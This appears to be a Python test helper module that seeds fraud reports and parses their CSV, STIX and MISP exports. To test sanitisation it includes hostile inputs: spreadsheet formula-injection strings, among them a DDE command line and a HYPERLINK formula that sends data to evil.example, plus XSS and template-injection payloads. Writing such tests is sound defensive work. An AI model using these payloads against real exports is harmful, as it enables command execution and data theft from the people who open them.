"""Reports that tests export, some of them hostile, and how they are told apart afterwards."""

import csv
import io
import json
import secrets
from collections.abc import Sequence
from datetime import timedelta
from typing import Any, Final

from db.reports import Report
from db.units_of_work import writing
from domain.callers import Caller, Role
from domain.exports import ExportFormat, Tlp
from domain.states import Language
from service import fraud_exports
from service.report_drafts import ReportDraft
from service.report_lists import ReportFilters
from service.report_rows import make_indicators, make_report
from service.runtime import Runtime
from tests.services import Service

Drafts = Sequence[dict[str, Any]]
ANALYST: Final = Caller("F-1", frozenset({Role.FRAUD}))
FULL: Final[dict[str, Any]] = {
    "occurred_at": "2026-11-24T11:30:00+08:00",
    "description": "He said 陳先生 owed money.\nSECRET-WORDS",
    "place": {"text": "SECRET-ADDRESS 5F", "latitude": 25.03456, "longitude": 121.56789},
    "claimed": {
        "name": "王大明",
        "badge_number": "HB-77",
        "agency": "Harbour Field Services",
        "phone": "0912 345 678",
        "plate": "ABC-1234",
        "organisation": "Harbour Bank",
    },
    "asked_for": ["cash", "transfer", "one_time_code", "documents"],
    "payee": "013-555666",
    "url": "https://harb0ur.example/pay",
    "contact": {"name": "SECRET-NAME", "phone": "0933 000 111", "email": "secret@example.org"},
}
BARE: Final[dict[str, Any]] = {"occurred_at": FULL["occurred_at"], "description": "a stranger"}
FORMULAS: Final = (
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u3000=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "'=1+1",
    "\u202e=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "|cmd",
    "%0a=1",
    'x","=1+1',
    'x"\r\n"=1+1',
    "x\u2028=1+1",
    "a;=1+1",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
)
HOSTILE: Final = (
    *FORMULAS,
    "' OR [x:y = 'z'] OR '",
    "\\' \\",
    '"}]}',
    "</script><script>alert(1)</script>",
    "\u0001\u007f\u0085",
    "\U0001f4a9" * 10,
    "{{7*7}}",
    "\u202eabc",
)


def spread(texts: Sequence[str]) -> list[dict[str, Any]]:
    """Return a few reports that say each text somewhere, all of them in descriptions."""
    parts = ("name", "badge_number", "plate")
    width = len(parts) + 2
    drafts = []
    for at in range(0, len(texts), width):
        *claims, payee, url = [*texts[at : at + width], *["x"] * width][:width]
        claimed = {**FULL["claimed"], **dict(zip(parts, (one[:64] for one in claims), strict=True))}
        said = {"payee": payee, "url": url, "description": "\n".join(texts)}
        drafts.append({**FULL, **said, "claimed": claimed})
    return drafts


def make_rows(runtime: Runtime, drafts: Drafts, **changes: object) -> list[Report]:
    """Return reports as rows, each received a second after the one before."""
    rows = []
    for at, draft in enumerate(drafts):
        moment = runtime.clock() - timedelta(minutes=5) + timedelta(seconds=at)
        parsed = ReportDraft.model_validate(draft)
        row = make_report(runtime, parsed, secrets.token_bytes(16), Language.ENGLISH, moment)
        for name, value in changes.items():
            setattr(row, name, value)
        rows.append(row)
    return rows


async def add(service: Service, drafts: Drafts, **changes: object) -> list[str]:
    """Put reports into the database and return their ids."""
    rows = make_rows(service.runtime, drafts, **changes)
    ids = [row.id for row in rows]
    async with writing(service.runtime.engine) as session:
        session.add_all(rows)
        await session.flush()
        for row in rows:
            session.add_all(make_indicators(row, service.runtime.country))
        await session.commit()
    return ids


async def export(
    service: Service,
    kind: ExportFormat,
    tlp: Tlp = Tlp.AMBER,
    filters: ReportFilters | None = None,
) -> bytes:
    """Return a whole export."""
    begun = await fraud_exports.begin(
        service.runtime, ANALYST, filters or ReportFilters(), kind, tlp
    )
    chunks = [chunk.content async for chunk in fraud_exports.write(service.runtime, begun)]
    return b"".join(chunks)


def read_csv(content: bytes) -> list[dict[str, str]]:
    """Return the reports of a CSV export, having checked its frame."""
    text = content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert rows[-1]["record"] == "end"
    assert rows[-1]["id"] == str(len(rows) - 1)
    assert {row["record"] for row in rows[:-1]} <= {"report"}
    return rows[:-1]


def read_stix(content: bytes, kind: str) -> list[dict[str, Any]]:
    """Return the objects of a type in a STIX export."""
    return [one for one in json.loads(content)["objects"] if one["type"] == kind]


def read_misp(content: bytes) -> list[dict[str, Any]]:
    """Return the events of a MISP export."""
    events: list[dict[str, Any]] = json.loads(content)["response"]
    return events
